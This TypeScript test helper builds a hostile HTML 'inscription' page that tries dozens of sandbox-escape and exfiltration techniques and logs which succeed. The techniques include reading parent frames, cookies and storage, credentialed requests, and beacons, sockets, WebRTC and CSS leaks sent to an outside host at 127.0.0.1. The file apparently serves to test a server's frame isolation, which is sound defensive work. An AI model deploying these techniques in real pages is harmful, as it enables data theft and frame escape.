import { idOf } from '#test/support/chain/rows/chain-rows.ts';

/**
 * The page's `window.report`. `tried` has the names of all attempts, and `reached` has the names of those that
 * succeeded.
 */
export interface Report {
  readonly tried: readonly string[];
  readonly reached: readonly string[];
  /** Names of ways to leave the page's frame, for `window.leave(name)`. */
  readonly waysOut: readonly string[];
  /** Results of the contents and recursive endpoints that the page may read. */
  readonly allowed: readonly unknown[];
  readonly done: boolean;
}

/**
 * An inscription that tries everything to escape its frame: to the surrounding page, our API, storage, windows and the
 * network.
 */
export function hostilePage({ httpPort, udpPort }: { httpPort: number; udpPort: number }): string {
  const outside = `127.0.0.1:${httpPort}`;
  return `<!doctype html><title>hostile</title><body><script>
const report = { tried: [], reached: [], allowed: [], done: false };
window.report = report;
const outside = ${JSON.stringify(outside)};
const udp = ${udpPort};

// a try reaches something where it gives anything but nothing, without an error
async function attempt(name, what) {
  report.tried.push(name);
  try {
    const limit = new Promise((_, reject) => setTimeout(reject, 3000, new Error('too slow')));
    const got = await Promise.race([what(), limit]);
    if (got !== undefined && got !== null && got !== false) report.reached.push(name + ': ' + String(got));
  } catch {}
}
const loaded = (tag, attributes) => new Promise((resolve, reject) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = () => resolve('loaded');
  element.onerror = () => reject(new Error('not loaded'));
  document.body.append(element);
});
const read = (url, options) => fetch(url, options).then((response) => response.text());

const attempts = {
  'parent document': () => parent.document.title,
  'top document': () => top.document.body.innerHTML,
  'parent location': () => parent.location.href,
  'parent variables': () => parent.frames.length && parent.secret,
  'parent function': () => parent.eval('1'),
  'change the top address': () => { top.location.href = 'http://' + outside + '/top'; },
  'change the parent address': () => { parent.location = 'http://' + outside + '/parent'; },
  'frame element': () => window.frameElement,
  'cookies': () => document.cookie,
  'set a cookie': () => { document.cookie = 'a=b'; return document.cookie; },
  'local storage': () => localStorage,
  'session storage': () => sessionStorage,
  'databases': () => new Promise((resolve, reject) => {
    const request = indexedDB.open('x');
    request.onsuccess = () => resolve('opened');
    request.onerror = reject;
  }),
  'caches': () => caches.open('x'),
  'service worker': () => navigator.serviceWorker.register('/content/${idOf('library')}'),
  'a popup': () => window.open('http://' + outside + '/popup'),
  'a popup of ours': () => window.open('/status'),
  'an alert': () => { const start = Date.now(); alert('x'); return Date.now() - start > 1000; },
  'our status': () => read('/status', { credentials: 'include' }),
  'our search': () => read('/search?text=a', { credentials: 'include' }),
  'our search without credentials': () => read('/search?text=a'),
  'our page': () => read('/', { credentials: 'include', mode: 'no-cors' }).then(() => 'sent'),
  'our lookup by post': () => read('/search/hashes', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
  'contents with credentials': () => read('/content/${idOf('data')}', { credentials: 'include' }),
  'our page in a frame': () => new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.src = '/';
    frame.onload = () => { try { resolve(frame.contentDocument.title || null); } catch (error) { reject(error); } };
    document.body.append(frame);
  }),
  'an old request': () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve(request.responseText);
    request.onerror = reject;
    request.open('GET', '/status');
    request.send();
  }),
  'a fetch outside': () => read('http://' + outside + '/fetch'),
  'a fetch outside, of content': () => read('http://' + outside + '/content/x'),
  'a blind fetch outside': () => fetch('http://' + outside + '/blind', { mode: 'no-cors' }).then(() => 'sent'),
  'a picture outside': () => loaded('img', { src: 'http://' + outside + '/picture' }),
  'a script outside': () => loaded('script', { src: 'http://' + outside + '/script' }),
  'a style outside': () => loaded('link', { rel: 'stylesheet', href: 'http://' + outside + '/style' }),
  'a prefetch outside': () => loaded('link', { rel: 'prefetch', href: 'http://' + outside + '/prefetch' }),
  'a module outside': () => import('http://' + outside + '/module'),
  'a frame outside': () => { loaded('iframe', { src: 'http://' + outside + '/frame' }); },
  'an object outside': () => loaded('object', { data: 'http://' + outside + '/object' }),
  'a video outside': () => { loaded('video', { src: 'http://' + outside + '/video' }); },
  'a socket outside': () => new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://' + outside + '/socket');
    socket.onopen = () => resolve('open');
    socket.onerror = reject;
  }),
  'events outside': () => new Promise((resolve, reject) => {
    const source = new EventSource('http://' + outside + '/events');
    source.onopen = () => resolve('open');
    source.onerror = reject;
  }),
  'a beacon outside': () => { navigator.sendBeacon('http://' + outside + '/beacon', 'x'); },
  'a worker that fetches': () => new Promise((resolve, reject) => {
    const code = 'fetch("http://' + outside + '/worker").then(() => postMessage("sent"), () => postMessage(null))';
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = reject;
  }),
  'datagrams': async () => {
    const servers = [{ urls: 'stun:127.0.0.1:' + udp }];
    const connection = new RTCPeerConnection({ iceServers: servers });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    await new Promise((resolve) => setTimeout(resolve, 2000));
  },
  'a quick transport': () => new WebTransport('https://' + outside + '/transport').ready.then(() => 'open'),
  'a connection made early': () => {
    const link = { rel: 'preconnect', href: 'http://' + outside };
    document.head.append(Object.assign(document.createElement('link'), link));
  },
  'a shared worker': () => new Promise((resolve, reject) => {
    const worker = new SharedWorker('/content/${idOf('library')}');
    worker.onerror = reject;
    setTimeout(resolve, 1000, 'started');
  }),
  'a service worker of its own': () => {
    const url = URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }));
    return navigator.serviceWorker.register(url);
  },
  'a link in a new window': () => {
    const link = { href: 'http://' + outside + '/window', target: '_blank', rel: 'opener', ping: 'http://' + outside + '/ping' };
    const anchor = Object.assign(document.createElement('a'), link);
    document.body.append(anchor);
    anchor.click();
  },
  'a form in a new window': () => {
    const form = { action: 'http://' + outside + '/post', method: 'post', target: '_blank' };
    const element = Object.assign(document.createElement('form'), form);
    document.body.append(element);
    element.submit();
  },
  'a form in a frame': () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'inner' });
    const form = Object.assign(document.createElement('form'), { action: 'http://' + outside + '/inner', target: 'inner' });
    document.body.append(frame, form);
    form.submit();
  },
  'styles that tell': () => {
    const at = (name) => 'url(http://' + outside + '/css/' + name + ')';
    document.head.append(Object.assign(document.createElement('style'), {
      textContent: '@import ' + at('import') + ';@font-face{font-family:told;src:' + at('font') + '}' +
        'body{font-family:told;background:' + at('background') + ';cursor:' + at('cursor') + ',auto}' +
        'body::before{content:' + at('content') + '}input[value^=a]{border-image:' + at('value') + '}',
    }));
    document.body.append(Object.assign(document.createElement('input'), { value: 'abc' }), 'told');
  },
  'a page made here': () => {
    const inner = '<img src="http://' + outside + '/srcdoc"><script>fetch("http://' + outside + '/inner").catch(() => {})</' + 'script>';
    for (const src of [URL.createObjectURL(new Blob([inner], { type: 'text/html' })), 'data:text/html,' + encodeURIComponent(inner)])
      document.body.append(Object.assign(document.createElement('iframe'), { src }));
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: inner }));
  },
  'pages to come': () => {
    const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://' + outside + '/rules'] }], prerender: [{ source: 'list', urls: ['http://' + outside + '/rules'] }] });
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }));
  },
  'another base': () => {
    const base = Object.assign(document.createElement('base'), { href: 'http://' + outside + '/base/' });
    document.head.append(base);
    const picture = loaded('img', { src: 'picture' });
    base.remove();
    return picture;
  },
  'a download': () => {
    const link = { href: 'data:application/octet-stream,x', download: 'x.exe' };
    const anchor = Object.assign(document.createElement('a'), link);
    document.body.append(anchor);
    anchor.click();
  },
  'messages to the page': () => {
    for (let i = 0; i < 1000; i++) parent.postMessage({ type: 'x', location: 'http://' + outside }, '*');
  },
  'a channel to our pages': () => new Promise((resolve) => {
    const channel = new BroadcastChannel('x');
    channel.onmessage = (event) => resolve(event.data);
    channel.postMessage('x');
  }),
  'files of the origin': () => navigator.storage.getDirectory(),
  'storage of the page around': () => document.requestStorageAccess().then(() => 'given'),
  'the cookie store': () => cookieStore.set('a', 'b').then(() => 'set'),
  'the whole screen': () => document.documentElement.requestFullscreen().then(() => 'filled'),
  'the pointer': () => document.body.requestPointerLock().then(() => 'locked'),
  'a notice': () => Notification.requestPermission().then((answer) => answer === 'granted' ? answer : null),
  'a payment': () => new PaymentRequest([{ supportedMethods: 'https://' + outside }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show(),
  'a device': () => navigator.usb.requestDevice({ filters: [] }),
  'our events': () => new Promise((resolve, reject) => {
    const source = new EventSource('/events');
    source.onopen = () => resolve('open');
    source.onerror = reject;
  }),
  'our metrics': () => read('/metrics'),
  'a key of ours': () => read('/key', { method: 'POST', body: new URLSearchParams({ key: 'x' }) }),
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }),
  'the place': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
  'the clipboard': () => navigator.clipboard.readText(),
};

// these would take the frame itself away
const waysOut = {
  'go': () => { location.href = 'http://' + outside + '/leave'; },
  'go where contents are': () => { location.href = 'http://' + outside + '/content/x'; },
  'a form outside': () => {
    const form = Object.assign(document.createElement('form'), { action: 'http://' + outside + '/form', method: 'post' });
    document.body.append(form);
    form.submit();
  },
  'a download': () => {
    const link = Object.assign(document.createElement('a'), { href: 'http://' + outside + '/download', download: 'x' });
    document.body.append(link);
    link.click();
  },
  'a refresh': () => {
    const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=http://' + outside + '/refresh' });
    document.head.append(refresh);
  },
  'back': () => history.back(),
  'a link to the top': () => {
    const link = Object.assign(document.createElement('a'), { href: 'http://' + outside + '/link', target: '_top' });
    document.body.append(link);
    link.click();
  },
};
report.waysOut = Object.keys(waysOut);
window.leave = (way) => waysOut[way]();
(async () => {
  await Promise.all(Object.entries(attempts).map(([name, what]) => attempt(name, what)));
  // what contents are written for
  report.allowed = [
    await read('/content/${idOf('data')}'),
    await read('/r/blockheight'),
    await read('/r/inscription/${idOf('data')}').then((text) => JSON.parse(text).id),
    (await import('/content/${idOf('library')}')).default,
  ];
  await new Promise((resolve) => setTimeout(resolve, 500));
  report.done = true;
})();
</script>`;
}
